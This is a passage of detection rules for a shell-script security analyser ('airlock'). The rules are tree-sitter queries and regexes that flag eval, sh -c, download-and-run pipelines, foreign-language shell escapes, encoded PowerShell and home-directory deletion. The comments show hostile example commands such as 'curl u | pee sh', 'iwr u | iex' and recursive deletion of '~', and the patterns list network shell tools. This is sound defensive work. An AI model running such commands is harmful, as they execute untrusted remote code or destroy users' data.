; Code built at run time (high: the analysis cannot know it), and code given as a constant string, which
; airlock analyses as the program it is: the findings of that code are
; reported at the command that runs it, beside an info finding that says
; so.
;
; The code of eval, `sh -c`, `python3 -c`, `node -e`, of a here-document or
; a here-string given to an interpreter, of `echo CODE | sh`, folds to a
; constant through quoting, variables, $'\x41' and $(echo X | base64 -d);
; an eval command folds to its arguments joined by spaces (lang_bash.c).

; eval "$cmd", eval $(some command)
((command) @n @finding
 (#resolves-to? @n "eval")
 (#unknown-code? @finding)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs code built at run time (eval), which hides what it does"))

; eval 'constant code': analysed
((command argument: (_)) @n @finding @code
 (#resolves-to? @n "eval")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs shell code given as a string (eval); airlock analysed that code too")
 (#set! analyze "code"))

; sh -c "$code", python3 -c "$code", node -e "$js", perl -e "$p", php -r "$p"
((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|su|runuser|script|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|flock|sg|capsh")
 (#match? @flag "^(?!-(exec|execdir|ok|okdir)$)-[a-zA-Z]*[ceEr][a-zA-Z]*$|^--(eval|print|command)$")
 (#not-match? @sh "^(\\S*/)?((python|pypy)[0-9.]*[\"']?\\s+(-[abd-zA-Z]*[WX]\\s+\\S+\\s+|-[abd-zA-Z]+\\s+)*|(node|nodejs)[\"']?\\s+(-[a-df-oq-zA-Z]*r\\s+\\S+\\s+|-[a-df-oq-zA-Z]+\\s+)*)(-m\\s|[^-\\s])")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs code built at run time (sh -c, python -c, node -e), which hides what it does"))

; f=(bash -c); "${f[@]}" "$code", alias r='sh -c'; r "$(curl u)": the
; shell and its -c kept together in a variable or an alias
((command name: (_) . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "^(\\S*/)?((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish)( +-[a-zA-Z]+)* +-[a-zA-Z]*c[a-zA-Z]*$")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs code built at run time (sh -c, kept in a variable), which hides what it does"))

; sh -c 'constant code', script -qc 'code' /dev/null: analysed (sg GROUP
; -c 'code', capsh -- -c 'code': a shell runs it)
((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|su|runuser|flock|script|sg|capsh")
 (#match? @flag "^(?!-(exec|execdir|ok|okdir)$)-[a-zA-Z]*c[a-zA-Z]*$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs code given as a string (sh -c); airlock analysed that code too")
 (#set! analyze "code"))

; watch 'code' (sh -c of its words), env -S 'code' (split into a command
; line): the string is a command line, analysed as the code it is
((command argument: (_) @code .) @sh @finding
 (#resolves-to? @sh "watch")
 (#not-match? @code "^-")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs shell code given as a string (watch); airlock analysed that code too")
 (#set! analyze "code"))

; git submodule foreach 'cmd': git runs the command line with a shell in
; each submodule; pee 'cmd' 'cmd': moreutils' pee runs each command line
; with a shell and feeds it its own stdin (curl u | pee sh is curl u | sh)
((command argument: (_) @code .) @sh @finding
 (#resolves-to? @sh "git")
 (#match? @sh "^(\\S*/)?git\\s+(.*\\s)?submodule\\s+(.*\\s)?foreach\\s")
 (#not-match? @code "^-")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs code built at run time (git submodule foreach), which hides what it does"))

((command argument: (_) @code .) @sh @finding
 (#resolves-to? @sh "git")
 (#match? @sh "^(\\S*/)?git\\s+(.*\\s)?submodule\\s+(.*\\s)?foreach\\s")
 (#not-match? @code "^-")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs a command line given as one string (git submodule foreach); airlock analysed it too")
 (#set! analyze "code"))

((pipeline (_) @src [(command) (redirected_statement) (subshell (command) @sh) (compound_statement (command) @sh)] @sh) @finding
 (#resolves-to? @sh "pee")
 (#match? @sh "\\s[\"']?(\\S*/)?((ba|da|z|k|mk|a|y|po)?sh|python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|php[0-9.]*)(\\s+-[a-zA-Z]*s)?[\"']?(\\s|$)")
 (#contains-call? @src "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|lynx|w3m|e?links|nc|ncat|netcat|socat")
 (#set! id "sh-download-exec")
 (#set! severity "high")
 (#set! message "downloads code and runs it through pee (curl u | pee sh): whatever the server sends is executed"))

((command argument: (_) @code) @sh @finding
 (#resolves-to? @sh "pee")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs code built at run time (pee), which hides what it does"))

((command argument: (_) @code) @sh @finding
 (#resolves-to? @sh "pee")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs a command line given as a string (pee); airlock analysed it too")
 (#set! analyze "code"))

; git rebase -x 'cmd' (--exec): git runs the command with a shell after
; each commit it replays, git difftool -x 'cmd' (--extcmd) for each file
; it compares (git bisect run PROG ARGS is a wrapper,
; bash_command.c); git's other -x and -S (log -S TEXT) are not code
((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "env|git")
 (#match? @flag "^(-[a-zA-Z]*S|--split-string|-x|--exec|--extcmd)$")
 (#not-match? @sh "^(\\S*/)?git\\s(?!(.*\\s)?(rebase|difftool)\\s)|^(\\S*/)?git\\s.*\\s-S\\s")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs a command line given as one string (env -S, git rebase -x); airlock analysed it too")
 (#set! analyze "code"))

; yt-dlp --exec 'cmd' URL (youtube-dl's too): the downloader runs the
; command with a shell after each download ({} is the file's name)
((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#match? @flag "^--exec(-before-download)?$")
 (#resolves-to? @sh "yt-dlp|youtube-dl|yt-dlp_linux")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs a command line given as one string (yt-dlp --exec); airlock analysed it too")
 (#set! analyze "code"))

((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#match? @flag "^--exec(-before-download)?$")
 (#resolves-to? @sh "yt-dlp|youtube-dl|yt-dlp_linux")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs a command line built at run time (yt-dlp --exec), which hides what it does"))

; git grep -O'cmd' (--open-files-in-pager=cmd): git runs the "pager"
; with a shell, the matching files' names after it; ansible HOST -a 'cmd'
; (--args): the command or shell module runs that line on the host
((command argument: (_) @code) @sh @finding
 (#resolves-to? @sh "git")
 (#value-match? @code "^--open-files-in-pager=\\S")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives git grep a command to run on the files it found (-O); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "="))

((command argument: (_) @code) @sh @finding
 (#resolves-to? @sh "git")
 (#value-match? @code "^-O\\S")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives git grep a command to run on the files it found (-O); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "-O"))

((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "ansible")
 (#match? @flag "^(-a|--args)$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs a command line given as one string (ansible -a); airlock analysed it too")
 (#set! analyze "code"))

; salt-call --local cmd.run 'cmd', salt '*' cmd.shell "cmd", salt-ssh h
; cmd.run_all 'cmd': Salt's execution module runs that line with a shell on
; the minion (here, with --local, this machine)
((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "salt-call|salt|salt-ssh|salt-run")
 (#value-match? @flag "^cmd\\.(run|shell|run_all|run_stdout|run_stderr|run_bg|run_chroot|powershell)$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs a command line given as one string (salt-call cmd.run); airlock analysed it too")
 (#set! analyze "code"))

; puppet apply -e 'exec { "x": command => "..." }': Puppet code whose exec
; resource runs a command, out of sight of the shell's analysis
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "puppet")
 (#match? @n "^(\\S*/)?puppet\\s+apply\\s(.*\\s)?(-e|--execute)(\\s|=)")
 (#value-match? @code "(?<![\\w.-])exec\\s*\\{")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "runs Puppet code whose exec resource runs a command (puppet apply -e 'exec { ... }'), out of sight of the shell's analysis"))

; rg --pre bash FILE: ripgrep runs the preprocessor with each file it
; searches as its argument, so a shell or an interpreter named there runs
; the files (a converter script of the project's own is not this)
((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#match? @flag "^--pre$")
 (#resolves-to? @sh "rg|ripgrep")
 (#value-match? @code "^(--pre=)?(\\S*/)?((ba|da|k|z|mk|c|tc)?sh|yash|python[0-9.]*|perl|ruby|node|php|lua[0-9.]*|tclsh)$")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "has ripgrep run the files it searches through a shell or an interpreter (--pre): their contents run as code"))

((command argument: (_) @code) @sh @finding
 (#resolves-to? @sh "rg|ripgrep")
 (#value-match? @code "^(--pre=)?(\\S*/)?((ba|da|k|z|mk|c|tc)?sh|yash|python[0-9.]*|perl|ruby|node|php|lua[0-9.]*|tclsh)$")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "has ripgrep run the files it searches through a shell or an interpreter (--pre): their contents run as code"))

; watch "$code", env -S "$line": a command line built at run time
((command argument: (_) @code .) @sh @finding
 (#resolves-to? @sh "watch")
 (#not-match? @code "^-")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs a command line built at run time (watch), which hides what it does"))

((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "env|git")
 (#match? @flag "^(-[a-zA-Z]*S|--split-string|-x|--exec|--extcmd)$")
 (#not-match? @sh "^(\\S*/)?git\\s(?!(.*\\s)?(rebase|difftool)\\s)|^(\\S*/)?git\\s.*\\s-S\\s")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs a command line built at run time (env -S, git rebase -x), which hides what it does"))

; tmux new -d 'code', tmux send-keys 'code' Enter, screen -X stuff 'code',
; parallel 'code {}' ::: args: strings these give to a shell (or type into
; one) -- every argument with a shell's syntax in it is analysed as code
((command argument: (_) @code) @sh @finding
 (#resolves-to? @sh "tmux|byobu|screen|parallel")
 (#value-match? @code "[\\s;|&$<>`(]")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives shell code as a string to a program that runs it (tmux, screen, parallel); airlock analysed that code too")
 (#set! analyze "code"))

; python -c 'constant code': analysed as Python
((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "python[0-9.]*|pypy[0-9.]*")
 (#match? @flag "^-[a-zA-Z]*c$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs code given as a string (python -c); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-as "python"))

; node -e 'constant code': analysed as JavaScript
((command argument: (_) @flag . argument: (_) @code) @sh @finding
 (#resolves-to? @sh "node|nodejs")
 (#match? @flag "^(-[ep]|--eval|--print)$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs code given as a string (node -e); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-as "javascript"))

; bash <<EOF, cat <<EOF | sh, sh <<< "code", echo "code" | sh: constant code
; on the stdin of a command that resolves to "P -" (see exec.scm)
([(redirected_statement
    body: (command) @sink
    redirect: (heredoc_redirect (heredoc_body) @code))
  (heredoc_redirect
    (pipeline [(command) (redirected_statement)] @sink)
    (heredoc_body) @code)
  (command redirect: (herestring_redirect) @code) @sink
  (pipeline . (command) @code . [(command) (redirected_statement)] @sink)] @finding
 (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.) -")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives constant code to a shell on its stdin; airlock analysed that code too")
 (#set! analyze "code"))

;  cat > "$d/sitecustomize.py" <<'EOF', printf '%s\n' 'import os' ... >
; usercustomize.py, echo 'import x; ...' > "$site/x.pth":
; Python code written where every Python start-up imports it (the
; site module runs sitecustomize, usercustomize and a .pth file's import
; lines, with PYTHONPATH or the user's site directory): analysed as Python
([(redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @dst) redirect: (heredoc_redirect (heredoc_body) @code))
  (redirected_statement body: (command) @n redirect: (heredoc_redirect (file_redirect destination: (_) @dst) (heredoc_body) @code))
  (redirected_statement body: (command) @n @code redirect: (file_redirect destination: (_) @dst))] @finding
 (#resolves-to? @n "cat|echo|printf")
 (#text-or-bound-match? @dst "(sitecustomize|usercustomize)\\.py[\"']?$|\\.pth[\"']?$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes Python code that every Python start-up runs (sitecustomize.py, usercustomize.py, a .pth file); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-as "python"))

; the same for Python
([(redirected_statement
    body: (command) @sink
    redirect: (heredoc_redirect (heredoc_body) @code))
  (heredoc_redirect
    (pipeline [(command) (redirected_statement)] @sink)
    (heredoc_body) @code)
  (command redirect: (herestring_redirect) @code) @sink
  (pipeline . (command) @code . [(command) (redirected_statement)] @sink)] @finding
 (#resolves-to? @sink "(python[0-9.]*|pypy[0-9.]*) -")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives constant code to Python on its stdin; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-as "python"))

; the same for JavaScript
([(redirected_statement
    body: (command) @sink
    redirect: (heredoc_redirect (heredoc_body) @code))
  (heredoc_redirect
    (pipeline [(command) (redirected_statement)] @sink)
    (heredoc_body) @code)
  (command redirect: (herestring_redirect) @code) @sink
  (pipeline . (command) @code . [(command) (redirected_statement)] @sink)] @finding
 (#resolves-to? @sink "(node|nodejs) -")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives constant code to JavaScript on its stdin; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-as "javascript"))

; the same, when the code is built at run time
([(redirected_statement
    body: (command) @sink
    redirect: (heredoc_redirect (heredoc_body) @code))
  (heredoc_redirect
    (pipeline [(command) (redirected_statement)] @sink)
    (heredoc_body) @code)
  (command redirect: (herestring_redirect) @code) @sink] @finding
 (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|node|nodejs|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*) -")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "gives code built at run time to an interpreter on its stdin, which hides what it does"))

; echo "$code" | sh
((pipeline . (command) @code . [(command) (redirected_statement)] @sink) @finding
 (#resolves-to? @code "echo|printf")
 (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|node|nodejs|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*) -")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "pipes code built at run time into an interpreter, which hides what it does"))

; source <(cmd), bash <(cmd): the output of a command run as code
((command argument: (process_substitution)) @sh @finding
 (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|node|nodejs|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs the output of another command as code, which hides what it does"))

; $(cmd) args: the output of a command is the command line
((command name: (command_name (command_substitution) @cs)) @finding
 (#unknown-code? @cs)
 (#not-resolves-to? @finding ".+")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs the output of another command as a command, which hides what it does"))

; "$(f 994)" -x ~, "$(nm 0)$(nm 1)" u: the same, quoted or pieced
; together; "$(dirname "$0")/run.sh" (a file in a directory: a constant /
; after the output) runs a file, and is not
((command name: (command_name [(string (command_substitution) @cs) (concatenation (command_substitution) @cs)] @name)) @finding
 (#not-match? @name "(^[^$]*|[)}][^$(]*)/")
 (#unknown-code? @cs)
 (#not-resolves-to? @finding ".+")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs the output of another command as a command, which hides what it does"))

; while read -r line; do $line; done < cmds, read c; $c -x: a command
; line the program reads at run time (read, mapfile, getopts), unquoted
; ("$hook", a path read from a listing, runs a file)
((command name: (_)) @n @finding
 (#resolves-to? @n "<read at run time>")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs a command whose name it reads at run time (read, mapfile), which hides what it does"))

; trap 'code' EXIT: the code runs later, as a string: analysed
((command argument: (_) @code . argument: (_)) @n @finding
 (#resolves-to? @n "trap")
 (#value-match? @code "")
 (#not-match? @code "^-")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs shell code given as a string (trap); airlock analysed that code too")
 (#set! analyze "code"))

; trap "$code" EXIT, trap "$(f)" INT: code whose first word is built at run
; time, run later (a constant command with a variable in it, trap "rm -rf
; $tmp" EXIT or trap "$ECHO $0 got INT" INT, is analysed as such; trap
; "$(printf 'rm -f %q' "$tmp")" EXIT quotes each value it fills in after a
; constant command); also run through command or builtin (command trap
; "$code" EXIT: the word after the name is then trap)
((command name: (_) . argument: (word)? @dd . argument: [(string . [(simple_expansion) (expansion) (command_substitution)] @head)
                                (simple_expansion) @head (expansion) @head (command_substitution) @head] @code
          . argument: (_)) @n @finding
 (#resolves-to? @n "trap")
 (#not-match? @dd "^(?!(--|trap)$)")
 (#not-match? @code "^\"?\\$\\(\\s*printf\\s+(--\\s+)?(['\"])(?!(eval|source|\\.|exec|command|builtin|[a-z]*sh)\\s)[A-Za-z_./-]+\\s((?!%[^q%])[^'\"])*\\2")
 (#not-value-match? @head "")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs code built at run time when a signal or exit comes (trap), which hides what it does"))

; trap "curl -fsSL u | ${run[$k]}" EXIT, trap "make; $post" EXIT: a later
; command of the trap's code (after |, ;, && or ||) whose name is built
; at run time (trap "rm -rf $tmp" EXIT has its values as arguments)
((command name: (_) . argument: (word)? @dd . argument: (string (string_content) @sep . [(simple_expansion) (expansion) (command_substitution)] @head)
          . argument: (_)) @n @finding
 (#resolves-to? @n "trap")
 (#not-match? @dd "^(?!(--|trap)$)")
 (#match? @sep "(\\||;|&)\\s*$")
 (#not-value-match? @head "")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs a command whose name is built at run time when a signal or exit comes (trap ... | $x), which hides what it does"))

; awk "$prog", gawk "$(cat x)", awk -F, -v n=1 "$prog" f: an awk program
; built at run time (the first operand after awk's options; not after -f
; FILE or -e/--source CODE, where every operand is a file)
((command name: (_) . argument: (_)* @opt . argument: (_) @code) @n @finding
 (#match? @code "^\"?\\$")
 (#resolves-to? @n "[gmn]?awk|busybox awk")
 (#not-value-match? @code "")
 (#not-value-match? @opt "^(?!-(?![a-zA-Z]*[fEe]$|-(file|source|exec|include|load)\\b)|[^{}\\s-][^{}\\s]{0,2}$|[A-Za-z_][A-Za-z0-9_]*=)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs an awk program built at run time, which hides what it does (awk can start programs)"))

; perl -e 'eval $ENV{P}', ruby -e 'eval(ARGV[0])', php -r 'eval($argv[1]);',
; lua -e 'load(io.read())()': the other language's own eval of a value
; that is not a constant
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|lua[0-9.]*|luajit")
 (#value-match? @code "(?<![\\w.$>:])(eval|instance_eval|class_eval|module_eval|loadstring|load|dostring)\\s*\\(?\\s*(?=[$@<A-Za-z_])")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs perl, ruby, php or lua code that evaluates a value built at run time, which hides what it does"))

; ruby -e 'FileUtils.public_send(*ARGV)' rm_rf ~, perl -e 'POSIX->can(shift)->(@ARGV)',
; php -r 'call_user_func($argv[1], $argv[2]);', lua -e '_G[arg[1]](arg[2])':
; another language's code that calls a function or method whose name is a
; value (its arguments, the environment, what it reads), not a constant:
; what it calls is out of sight (ruby's send(:upcase), call_user_func('f')
; name theirs)
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|lua[0-9.]*|luajit")
 (#value-match? @code "(?<=[.:])(public_send|__send__|send|public_method|method|instance_method|const_get)\\b\\s*+\\(?+\\s*+(?![:'\")])|(?<![\\w$@.:])(public_send|__send__|send|method)\\s*\\(\\s*(?![:'\")])|(?<!&)&\\s*\\{\\s*[\\\\\"$]|(?<!&)&\\s*\\$\\w|->\\s*\\$\\w+\\s*\\(|\\bcan\\s*\\(\\s*(?!['\"])|\\bcall_user_func(_array)?\\s*\\(\\s*(?!['\"])|\\$\\w+(\\[[^\\]]*\\])*\\((?!\\))|(?<![\\w.])(_G|_ENV)\\s*\\[")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs perl, ruby, php or lua code that calls a function named by a value (send, can, call_user_func), which hides what it calls"))

; awk 'BEGIN{system("sh")}', perl -e 'exec "/bin/sh"', ruby -e 'system(...)',
; php -r 'system(...)', guile -c '(system "sh")', racket -e, sbcl --eval
; '(sb-ext:run-program ...)', erl -eval 'os:cmd("...")', elixir -e
; 'System.cmd(...)', swipl -g "shell('...')": another language's code that starts a shell or a program
; (gawk's indirect call, f = "sys" "tem"; @f(c), calls what a value names; PHP's
; @f() silences errors, and is taken for one too; awk's !/re/ before an
; action or at the end, a negated pattern, is not an editor's shell escape)
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "[gmn]?awk|busybox awk|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript|R|gnuplot|octave(-cli)?|julia|expect|gdb|lldb|vim?|nvim|ex|ed|jq|sqlite3|dc|guile[0-9.]*|racket|sbcl|clisp|erl|elixir|swipl|gprolog")
 (#value-match? @code "(?<![\\w.\"'])(system2?|exec|execvp?|popen|spawn|shell_exec|passthru|proc_open|pcntl_exec|syscall|os\\.(execute|system|popen)|io\\.popen|IO\\.popen|Open3|Process\\.spawn|Kernel\\.exec|(sb-ext:|uiop:)?(run|launch)-program|open-(input-|output-)?pipe\\*?|os:cmd|System\\.(cmd|shell))\\s*[(\"'\\s{]|`|%x[({\\[]|\\|\\s*getline|\\|&|print\\s*[^;|]*\\|\\s*\"|\\bprintf?\\b(?:[^;|\\n\"]|\"(?:[^\"\\\\\\n]|\\\\.)*\")*\\|(?![|&])\\s*[A-Za-z_(]|(^|\\n)\\s*[:+]?\\s*(sil(ent)?!?\\s+)?!(?!/[^/\\n]*/\\s*(\\{|$|&&|\\|\\|))|\\bshell\\b|\\be?syscmd\\s*\\(|(^|\\n)\\s*\\.system\\b|@(?!load\\b|include\\b|namespace\\b)[A-Za-z_]\\w*\\s*\\(")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "runs awk, perl, ruby or php code that starts a shell or another program, out of sight of the shell's analysis"))

; pwsh -c 'iwr u | iex', powershell -Command "Start-Process sh", jshell
; <<< 'new ProcessBuilder("sh", "-c", c).start()', groovy -e
; '"rm -rf ~".execute()', jrunscript -e 'Runtime.getRuntime().exec(...)',
; scala -e 'Process("sh -c ...").!', bb -e '(shell "sh" "-c" c)': PowerShell,
; JVM or Clojure code that starts a program or evaluates a string as code,
; given as an argument or on the interpreter's stdin; pwsh -EncodedCommand,
; code in base64, hides what it runs
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "pwsh(-preview)?|powershell(\\.exe)?|jshell|jrunscript|groovy|groovysh|kotlinc(-jvm)?|kotlin|scala|amm|bb|clojure|clj")
 (#value-match? @code "(?&sh_foreign_starts)")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "runs PowerShell, JVM or Clojure code that starts a program or evaluates a string as code (iex, Start-Process, ProcessBuilder, .execute()), out of sight of the shell's analysis"))

((command) @n @finding
 (#resolves-to? @n "pwsh(-preview)?|powershell(\\.exe)?")
 (#match? @n "(?i)\\s-(e|ec|enc|encodedcommand)(\\s|$)")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "runs PowerShell code given in base64 (-EncodedCommand), which hides what it does"))

([(redirected_statement
    body: (command) @sink
    redirect: (heredoc_redirect (heredoc_body) @code))
  (heredoc_redirect
    (pipeline [(command) (redirected_statement)] @sink)
    (heredoc_body) @code)
  (command redirect: (herestring_redirect) @code) @sink
  (pipeline . (command) @code . [(command) (redirected_statement)] @sink)] @finding
 (#resolves-to? @sink "pwsh(-preview)?|powershell(\\.exe)?|jshell|jrunscript|groovy|groovysh|kotlinc(-jvm)?|kotlin|scala|amm|bb|clojure|clj")
 (#value-match? @code "(?&sh_foreign_starts)")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "feeds PowerShell, JVM or Clojure code that starts a program or evaluates a string as code to its interpreter"))

; Rscript -e 'unlink(path.expand("~"), recursive = TRUE)', R -e
; 'unlink(Sys.getenv("HOME"), recursive = T)': R code that deletes the home
; or root directory; julia's rm(homedir(); recursive=true) and octave's
; rmdir(getenv("HOME"), "s") the same
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "R|Rscript|julia|octave(-cli)?")
 (#value-match? @code "\\bunlink\\s*\\(\\s*(path\\.expand\\s*\\(\\s*['\"]~/?['\"]\\s*\\)|normalizePath\\s*\\(\\s*['\"]~/?['\"]\\s*\\)|Sys\\.getenv\\s*\\(\\s*['\"]HOME['\"]\\s*\\)|['\"](~|/)/?['\"])[^;]*\\brecursive\\s*=\\s*T|\\brm\\s*\\(\\s*(homedir\\s*\\(\\s*\\)|ENV\\s*\\[\\s*\"HOME\"\\s*\\]|expanduser\\s*\\(\\s*\"~/?\"\\s*\\)|\"(~|/)/?\")[^)]*\\brecursive\\s*=\\s*true|\\b(rmdir|confirm_recursive_rmdir)\\s*\\(\\s*(getenv\\s*\\(\\s*['\"]HOME['\"]\\s*\\)|['\"](~|/)/?['\"])\\s*,\\s*['\"]s['\"]")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "runs R, julia or octave code that deletes a whole home or system directory"))

; Rscript -e 'source("https://h/x.R")', R -e 'devtools::source_url(u)',
; source(url(u)), eval(parse(u)) of a URL, julia -e 'include(download(u))':
; R or julia code fetched from a server and run (source("R/x.R"), a local
; file, is not)
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "R|Rscript|julia")
 (#value-match? @code "\\b(sys\\.)?source\\s*\\(\\s*(file\\s*=\\s*)?(url\\s*\\(\\s*)?['\"](https?|ftp)://|\\bsource_(url|gist)\\s*\\(|\\bparse\\s*\\(\\s*(file\\s*=\\s*)?(url\\s*\\(\\s*)?['\"](https?|ftp)://|\\binclude\\s*\\(\\s*download\\s*\\(")
 (#set! id "sh-download-exec")
 (#set! severity "high")
 (#set! message "runs R or julia code that fetches code from a server and runs it (source(\"https://...\"))"))

; psql -c '\! cmd', mysql -e 'system cmd', emacs --eval '(shell-command
; "cmd")': a database client's shell escape, Emacs Lisp that starts a
; process (SQL itself, backquoted names and all, is not looked at)
((command) @n @finding
 (#resolves-to? @n "psql|mysql|mariadb")
 (#match? @n "(^|[\\s'\"\\n;])(\\\\!|system\\s)")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "gives a database client a shell escape (\\! or system), which runs a command out of sight of the shell's analysis"))

((command) @n @finding
 (#resolves-to? @n "emacs|emacsclient|xemacs")
 (#match? @n "\\(\\s*(async-shell-command|shell-command(-to-string)?|call-process(-shell-command|-region)?|start-process(-shell-command)?|make-process|process-lines|start-file-process)\\b")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "runs Emacs Lisp that starts a shell or a program, out of sight of the shell's analysis"))

; the same code on such an interpreter's stdin: tclsh <<< 'exec /bin/sh',
; echo 'system("id")' | perl, C that calls system() compiled from stdin
([(redirected_statement
    body: (command) @sink
    redirect: (heredoc_redirect (heredoc_body) @code))
  (heredoc_redirect
    (pipeline [(command) (redirected_statement)] @sink)
    (heredoc_body) @code)
  (command redirect: (herestring_redirect) @code) @sink
  (pipeline . (command) @code . [(command) (redirected_statement)] @sink)] @finding
 (#resolves-to? @sink "([gmn]?awk|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|wish[0-9.]*|expect|Rscript|R|gnuplot|octave(-cli)?|julia|gdb|sqlite3|gcc(-[0-9]+)?|cc|clang(-[0-9]+)?|tcc|g\\+\\+|c\\+\\+) -")
